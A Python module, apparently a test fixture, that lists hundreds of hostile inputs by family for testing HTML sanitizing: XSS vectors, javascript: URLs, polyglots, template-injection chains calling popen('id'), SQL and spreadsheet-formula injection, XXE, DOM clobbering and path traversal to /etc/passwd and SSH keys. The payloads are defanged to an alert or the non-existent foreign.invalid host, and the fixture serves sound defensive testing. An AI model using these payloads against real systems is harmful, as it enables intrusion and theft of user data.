"""Texts that try to run a script or to ask the network for something, by family.

All are harmless: they set ``window.__ran``, open an alert, or ask for an address of
``foreign.invalid``, which exists nowhere (RFC 2606).
"""

from __future__ import annotations

from collections.abc import Iterator
from typing import NamedTuple
from urllib.parse import quote

JS = "window.__ran=1,alert(1)"
"""Without quotes and spaces, so that it stands in any kind of attribute."""
FOREIGN = "http://foreign.invalid"


class Hostile(NamedTuple):
    """A payload, and what kind of one it is."""

    family: str
    text: str


_EVENTS = """abort afterprint animationend animationiteration animationstart auxclick beforecopy
beforecut beforeinput beforematch beforepaste beforeprint beforetoggle beforeunload begin blur
cancel canplay canplaythrough change click close contextlost contextmenu contextrestored copy
cuechange cut dblclick drag dragend dragenter dragleave dragover dragstart drop durationchange
emptied end ended error finish focus focusin focusout formdata fullscreenchange gotpointercapture
hashchange input invalid keydown keypress keyup languagechange load loadeddata loadedmetadata
loadend loadstart lostpointercapture message mousedown mouseenter mouseleave mousemove mouseout
mouseover mouseup mousewheel offline online pagehide pageshow paste pause play playing
pointercancel pointerdown pointerenter pointerleave pointermove pointerout pointerover
pointerrawupdate pointerup popstate progress ratechange reset resize scroll scrollend search
seeked seeking select selectionchange selectstart show slotchange stalled start storage submit
suspend timeupdate toggle touchcancel touchend touchmove touchstart transitioncancel transitionend
transitionrun transitionstart unhandledrejection unload volumechange waiting webkitanimationend
webkittransitionend wheel""".split()

# What fires by itself as soon as it is part of a document.
FIRING = [
    f"<script>{JS}</script>",
    f"<SCRIPT\n>{JS}</sCrIpT >",
    f"<img src=x onerror={JS}>",
    f'<img src="x" onerror="{JS}">',
    f"<img/src=x/onerror={JS}//",
    f"<image src=x onerror={JS}>",
    f"<svg onload={JS}>",
    f"<svg/onload={JS}//",
    f"<svg><animate onbegin={JS} attributeName=x dur=1s>",
    f"<svg><set onbegin={JS} attributeName=x dur=1s>",
    f"<svg><script>{JS}</script></svg>",
    f"<svg><style><img src=x onerror={JS}></style></svg>",
    f"<details open ontoggle={JS}>x</details>",
    f"<input autofocus onfocus={JS}>",
    f"<video src=x onerror={JS}></video>",
    f"<video><source src=x onerror={JS}></video>",
    f"<audio src=x onerror={JS}></audio>",
    f"<object data=x: onerror={JS}></object>",
    f"<iframe srcdoc='<script>parent.{JS}</script>'></iframe>",
    f'<iframe src="javascript:parent.{JS}"></iframe>',
    f"<iframe onload={JS}></iframe>",
    f"<embed src=x onerror={JS}>",
    f"<link rel=stylesheet href=x: onerror={JS}>",
    f"<style onload={JS}></style>",
    f"<table background=x><td><img src=x onerror={JS}></table>",
    f"<noscript><p title='</noscript><img src=x onerror={JS}>'></noscript>",
]

_SVG = [
    f'<svg><a xlink:href="javascript:{JS}"><text y=20>x</text></a></svg>',
    f'<svg><animate attributeName=href values="javascript:{JS}" /><a id=x><text>x</text></a></svg>',
    f'<svg><a><set attributeName=href to="javascript:{JS}"/><text>x</text></a></svg>',
    f'<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg '
    f'onload={JS}/>#x"/></svg>',
    f'<svg><use xlink:href="{FOREIGN}/a.svg#x"/></svg>',
    f'<svg><image href="{FOREIGN}/i.png"/></svg>',
    f'<svg><feImage href="{FOREIGN}/f.png"/></svg>',
    f"<svg><foreignObject><img src=x onerror={JS}></foreignObject></svg>",
    f"<svg><desc><script>{JS}</script></desc></svg>",
    f"<svg><title><img src=x onerror={JS}></title></svg>",
    f"<svg><handler type=text/javascript ev:event=load>{JS}</handler></svg>",
    f'<svg><style>@import "{FOREIGN}/s.css";</style></svg>',
    f'<svg fill="url({FOREIGN}/p.svg#x)"><rect width=9 height=9 /></svg>',
    f'<math><maction actiontype=statusline xlink:href="javascript:{JS}">x</maction></math>',
    f'<math href="javascript:{JS}">x</math>',
    f"<math><mtext><table><mglyph><style><img src=x onerror={JS}></style></mglyph></table></mtext>",
    f"<math><annotation-xml encoding=text/html><script>{JS}</script></annotation-xml></math>",
    f"<svg></p><style><a id='</style><img src=x onerror={JS}>'>",
    f"<svg><![CDATA[><image xlink:href=x onerror={JS} />]]>",
]

_SCHEMES = [
    f"javascript:{JS}",
    f"JaVaScRiPt:{JS}",
    f" \tjavascript:{JS}",
    f"java\tscript:{JS}",
    f"java\nscript:{JS}",
    f"java&#10;script:{JS}",
    f"&#106;avascript&colon;{JS}",
    f"javascript&#58;{JS}",
    f"\x01javascript:{JS}",
    f"javascript://foreign.invalid/%0a{JS}",
    f"javascript://foreign.invalid/?x='%0a{JS}//",
    f"javascript:/*--></title></style></textarea></script><svg/onload={JS}>",
    "vbscript:msgbox(1)",
    "livescript:alert(1)",
    "mocha:alert(1)",
    f"data:text/html,<script>{JS}</script>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19yYW49MTwvc2NyaXB0Pg==",
    f"data:text/javascript,{JS}",
    f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{JS}'/>",
    f"view-source:{FOREIGN}/",
    f"feed:javascript:{JS}",
    f"blob:{FOREIGN}/1",
    f"filesystem:{FOREIGN}/temporary/x",
    "file:///etc/passwd",
    "about:blank",
    f"jar:{FOREIGN}/a.jar!/x.html",
    "//foreign.invalid/x",
    "\\\\foreign.invalid\\x",
    "/\\foreign.invalid/x",
    f'{FOREIGN}/?x="><script>{JS}</script>',
    f"{FOREIGN}/' onclick={JS} x='",
    f"http://user:pass@foreign.invalid/#{JS}",
    "http://[::1",
    "http://",
    f"https:javascript:{JS}",
]

_BROKEN = [
    f"<scr<script>ipt>{JS}</scr</script>ipt>",
    f"<<script>{JS}//<</script>",
    f"<script{JS}",
    f"<script>{JS}",
    f"<script src={FOREIGN}/x.js",
    f"<script/src={FOREIGN}/x.js></script>",
    f"</script><script>{JS}</script>",
    f"</style><script>{JS}</script>",
    f"</title><script>{JS}</script>",
    f"</textarea><script>{JS}</script>",
    f"</template><script>{JS}</script>",
    f"</noscript><script>{JS}</script>",
    f"</select><script>{JS}</script>",
    f"</option></select><img src=x onerror={JS}>",
    f"</svg><script>{JS}</script>",
    f"</blockquote></li></ol></details><script>{JS}</script>",
    f"</main></body></html><script>{JS}</script>",
    f"<img src=x onerror={JS}",
    f"<img src=x onerror={JS} <p>",
    f'<img """><script>{JS}</script>">',
    f"<a href=x><b><i><img src=x onerror={JS}></a></b></i>",
    f"<p><svg><p><style><!--</style><img src=x onerror={JS}>-->",
    f"<listing>&lt;img src=x onerror={JS}&gt;</listing>",
    f"<plaintext><script>{JS}</script>",
    f"<xmp><script>{JS}</script></xmp>",
    f"<select><template><img src=x onerror={JS}></template></select>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={JS}>",
    f"<table><td></table><script>{JS}</script>",
    f"<frameset onload={JS}>",
    f"<isindex type=image src=x onerror={JS}>",
    "<" * 200,
    "</p>" * 100,
    "<b>" * 100 + f"<img src=x onerror={JS}>",
]

_ATTRIBUTES = [
    f'"><script>{JS}</script>',
    f"'><script>{JS}</script>",
    f"><script>{JS}</script>",
    f'" onmouseover="{JS}',
    f"' onmouseover='{JS}",
    f" onmouseover={JS} ",
    f"` onmouseover=`{JS}",
    f'" autofocus onfocus="{JS}" x="',
    f"' autofocus onfocus='{JS}' x='",
    f'" style="background:url({FOREIGN}/b)" x="',
    f'" accesskey=x onclick={JS} x="',
    f'"/onerror="{JS}"/src="x',
    f'x" srcset="{FOREIGN}/s 1x',
    f'x" ping="{FOREIGN}/ping',
    f'x" formaction="{FOREIGN}/form',
    f'x" http-equiv="refresh" content="0;url={FOREIGN}/',
    f'\\"-{JS}-\\"',
    f"\\';{JS};//",
    f"</p data-x='><img src=x onerror={JS}>'",
    f"&quot;&gt;&lt;script&gt;{JS}&lt;/script&gt;",
]

_TEMPLATES = [
    "{{ 7 * 191 }}",
    "{{ config.items() }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ self.__init__.__globals__ }}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{% for x in range(9) %}{{ x }}{% endfor %}",
    "{% include '/etc/passwd' %}",
    "{% extends 'base.html' %}",
    "{% raw %}{{ 7 }}{% endraw %}",
    "{# a comment #}",
    "{% endblock %}{% endmacro %}",
    "{{ view.page.text | safe }}",
    "{{{ triple }}}",
    "{{#with this}}{{lookup this 'constructor'}}{{/with}}",
    f"{{{{constructor.constructor('{JS}')()}}}}",
    f"{{{{$on.constructor('{JS}')()}}}}",
    f"<div ng-app ng-csp ng-init=\"$eval.constructor('{JS}')()\">",
    f"<div v-html=\"'<img src=x onerror={JS}>'\">",
    f'<div x-data x-init="{JS}">',
    f'<div hx-get="{FOREIGN}/" hx-trigger=load>',
    f"${{{JS}}}",
    f"#{{{JS}}}",
    f"<%= {JS} %>",
    f"<?php echo '{JS}'; ?>",
    f"[[{JS}]]",
    "%(name)s {0.__class__} {name!r} %s %n",
    "$(id) `id` ; id | id",
    '=HYPERLINK("http://foreign.invalid/","x")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
]

_BIDI = [
    *(f"abc {sign}<script>{JS}</script>{sign} xyz" for sign in "\u202a\u202b\u202d\u202e\u2066"),
    "safe\u202egpj.exe",
    "\u202e" * 50 + "abc",
    "\u2067\u2066\u2068 said \u2069",
    "\u061cabc\u200fdef\u200e",
    f"<scr\u200bipt>{JS}</scr\u200bipt>",
    f"<\u00adscript>{JS}</script>",
    f"\ufeff<script>{JS}</script>",
    f"\uff1cscript\uff1e{JS}\uff1c/script\uff1e",
    f"\u2039script\u203a{JS}",
    "a\u0300\u0301\u0302\u0303" * 60,
    "\U000e0001\U000e0073\U000e0061",
    "\u2028alert(1)\u2029",
    "\u0130\u0131\u017f\u212a",
    "عربي said שלום",
    "\ufffe\uffff\U0010ffff",
]

_CSS = [
    f"<style>@import url({FOREIGN}/i.css);</style>",
    f"<style>body{{background:url({FOREIGN}/b.png)}}</style>",
    f"<style>@font-face{{font-family:x;src:url({FOREIGN}/f)}}*{{font-family:x}}</style>",
    f"<style>input[value^=a]{{background:url({FOREIGN}/a)}}</style>",
    "<style>main{display:none}.mark:after{content:'forged'}</style>",
    f'<p style="background:url({FOREIGN}/p)">x</p>',
    f'<p style="width:expression({JS})">x</p>',
    f'<p style="behavior:url({FOREIGN}/x.htc)">x</p>',
    f'<p style="-moz-binding:url({FOREIGN}/x.xml#x)">x</p>',
    '<p style="position:fixed;inset:0;z-index:9999;background:#fff">Sign in again</p>',
    f'<p style="list-style:url(javascript:{JS})">x</p>',
    f'<link rel=stylesheet href="{FOREIGN}/l.css">',
    f'<link rel=stylesheet href="data:text/css,@import url({FOREIGN}/d.css)">',
    f"}}*{{background:url({FOREIGN}/c)}}",
    f"<style>@namespace url({FOREIGN}/n);</style><style>/*",
]

_LOADING = [
    f'<meta http-equiv=refresh content="0;url={FOREIGN}/r">',
    f'<meta http-equiv=refresh content="0;url=javascript:{JS}">',
    f'<meta http-equiv=refresh content="0;url=data:text/html,<script>{JS}</script>">',
    '<meta http-equiv=Set-Cookie content="onrecord=1">',
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline' *\">",
    "<meta charset=utf-7>",
    f'<base href="{FOREIGN}/">',
    f'<base target="x" href="{FOREIGN}/">',
    f'<iframe src="{FOREIGN}/i"></iframe>',
    f'<frameset><frame src="{FOREIGN}/f"></frameset>',
    f'<object data="{FOREIGN}/o"></object>',
    f'<object type=text/html data="javascript:{JS}"></object>',
    f'<embed src="{FOREIGN}/e">',
    f'<embed src="javascript:{JS}">',
    f'<applet code=x codebase="{FOREIGN}/"></applet>',
    f'<img src="{FOREIGN}/i.png">',
    f'<img srcset="{FOREIGN}/s.png 1x">',
    f'<img src=x lowsrc="{FOREIGN}/l.png">',
    f'<picture><source srcset="{FOREIGN}/p.png"><img></picture>',
    f'<video poster="{FOREIGN}/p.png" src="{FOREIGN}/v.mp4" autoplay></video>',
    f'<audio src="{FOREIGN}/a.mp3" autoplay></audio>',
    f'<track src="{FOREIGN}/t.vtt">',
    f'<input type=image src="{FOREIGN}/n.png">',
    f'<body background="{FOREIGN}/b.png">',
    f'<link rel=prefetch href="{FOREIGN}/p"><link rel=dns-prefetch href="{FOREIGN}">',
    f'<link rel=preload as=image href="{FOREIGN}/p.png">',
    f'<link rel=manifest href="{FOREIGN}/m"><link rel=icon href="{FOREIGN}/i">',
    f'<link rel=import href="{FOREIGN}/x.html">',
    f'<script src="{FOREIGN}/x.js"></script>',
    f'<script type=module>import "{FOREIGN}/m.js"</script>',
    f'<script>fetch("{FOREIGN}/f");new Image().src="{FOREIGN}/g"</script>',
    f'<script type=speculationrules>{{"prefetch":[{{"urls":["{FOREIGN}/s"]}}]}}</script>',
    f'<form action="{FOREIGN}/f"><input name=token><button autofocus>x</button></form>',
    f'<a href="{FOREIGN}/a" ping="{FOREIGN}/ping">x</a>',
    f'<portal src="{FOREIGN}/p"></portal>',
    f'<template shadowrootmode=open><img src="{FOREIGN}/t"></template>',
]

_COMMENTS = [
    f"<!--><script>{JS}</script>-->",
    f"<!--<img src='--><img src=x onerror={JS}>//'>",
    f"--><script>{JS}</script><!--",
    f"--!><script>{JS}</script>",
    f"<![CDATA[<script>{JS}</script>]]>",
    f"]]><script>{JS}</script>",
    f"<!--[if gte IE 4]><script>{JS}</script><![endif]-->",
    f"<![if !IE]><script>{JS}</script><![endif]>",
    f"<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;<script>{JS}</script>",
    f"<?xml-stylesheet href='javascript:{JS}'?>",
    f"<? foo='><script>{JS}</script>'>",
    f"<! foo='><script>{JS}</script>'>",
    "<!--",
    "<!-- <!-- ",
]

_ENCODED = [
    f"&lt;script&gt;{JS}&lt;/script&gt;",
    f"&amp;lt;script&amp;gt;{JS}&amp;lt;/script&amp;gt;",
    f"&#60;script&#62;{JS}&#60;/script&#62;",
    f"&#x3c;script&#x3e;{JS}&#x3c;/script&#x3e;",
    f"&#0000060script&#0000062{JS}",
    f"&LT;script&GT;{JS}",
    quote(f"<script>{JS}</script>"),
    quote(quote(f"<script>{JS}</script>")),
    f"\\u003cscript\\u003e{JS}\\u003c/script\\u003e",
    f"\\x3cscript\\x3e{JS}",
    f"\\74script\\76{JS}",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "%c0%bcscript%c0%bealert(1)",
    "%u003cscript%u003ealert(1)",
    f"<scr\x00ipt>{JS}</scr\x00ipt>",
    f"<img\x00src=x\x0conerror={JS}>",
    f"<img\x0bsrc=x onerror={JS}>",
    f"\x1b[2J\x1b]8;;{FOREIGN}\x07x\x1b]8;;\x07",
    f"\x08\x7f\x85<script>{JS}</script>",
    f"\x1b$B<script>{JS}</script>\x1b(B",
    "&#0;&#xD800;&#x110000;&#x1F;",
    f"&NotEqualTilde;&nvlt;script&nvgt;{JS}",
]

_POLYGLOTS = [
    f"jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk={JS} )//%0D%0A%0d%0a//</stYle/</titLe/"
    f"</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd={JS}//>\\x3e",
    f'">><marquee><img src=x onerror={JS}></marquee>"></plaintext\\></|\\><plaintext/onmouseover='
    f"{JS}><script>{JS}</script>",
    f"'\">><script>{JS}</script><img src=x onerror={JS}>{{{{7*7}}}}",
    f"--></script></title></style>\"'><svg onload={JS}>",
    f"';{JS}//\";{JS}//--></SCRIPT>\">'><SCRIPT>{JS}</SCRIPT>",
    f"GIF89a/*<svg/onload={JS}>*/={JS};",
    f"%PDF-1.4 <script>{JS}</script>",
    f"'-{JS}-'\"-{JS}-\"`-{JS}-`<svg/onload={JS}>",
]

_CLOBBERING = [
    *(
        f'<a id="{name}" name="{name}" href="{FOREIGN}/{name}">{name}</a>'
        for name in "e0 e1 a0 a1 filters shown ledger text comments content results search correct "
        "pick progress read file problem done".split()
    ),
    '<form id="filters"><input name="elements"><input name="reset"></form>',
    '<form name="getElementById"><input name="value"></form>',
    '<img name="querySelectorAll"><img name="body"><img name="cookie">',
    '<input id="location"><input id="history"><input id="fetch">',
    '<li class="entry" data-a="0" data-place="0-9"><p class="who">forged</p></li>',
    '<p id="shown" role="status">0 of 0 attributions</p>',
    '<div data-fold="closed" data-take="content" data-nudge="end,-1">x</div>',
]

_NAMES = [
    *"__proto__ constructor prototype hasOwnProperty toString valueOf __class__ __init__".split(),
    '{"__proto__": {"polluted": 1}}',
    "__proto__[polluted]=1",
    "constructor.prototype.polluted",
    "null",
    "undefined",
    "NaN",
    "true",
    "0",
    "-1",
    "1e309",
    "' OR '1'='1",
    "'; DROP TABLE pages; --",
    '" UNION SELECT * FROM sqlite_master --',
    "%",
    "_",
    '"phrase" AND (x OR NEAR(y',
]

_LONG = [
    "A" * 5000,
    "A" * 2000 + f"<script>{JS}</script>",
    "<script>" * 300,
    "&amp;" * 500,
    "&" * 1000,
    '"' * 1000,
    "a/" * 1000,
    "😀" * 700,
    "W" * 300 + "\u200b" + "W" * 300,
]

_FILES = [
    "../../../../etc/passwd",
    "..\\..\\..\\windows\\win.ini",
    "/etc/passwd",
    "C:\\windows\\win.ini",
    "file.html\x00.png",
    "..%2f..%2fetc%2fpasswd",
    "....//....//etc/passwd",
    "CON.html",
    "a.html\r\nX-Injected: 1",
    'a".html; filename="b.exe',
    f"<img src=x onerror={JS}>.html",
    "~/.ssh/id_rsa",
    "|id.html",
    "$(id).html",
    "-rf.html",
]


def _payloads() -> Iterator[Hostile]:
    families = {
        "firing": FIRING,
        "event": [f"<p on{one}={JS} tabindex=0 contenteditable>x</p>" for one in _EVENTS],
        "svg": _SVG,
        "scheme": _SCHEMES,
        "link": [f'<a href="{one}">x</a>' for one in _SCHEMES[:20]],
        "broken": _BROKEN,
        "attribute": _ATTRIBUTES,
        "template": _TEMPLATES,
        "bidi": _BIDI,
        "css": _CSS,
        "loading": _LOADING,
        "comment": _COMMENTS,
        "encoded": _ENCODED,
        "polyglot": _POLYGLOTS,
        "clobbering": _CLOBBERING,
        "name": _NAMES,
        "long": _LONG,
        "file": _FILES,
    }
    for family, texts in families.items():
        for text in texts:
            yield Hostile(family, text)


PAYLOADS = tuple(_payloads())
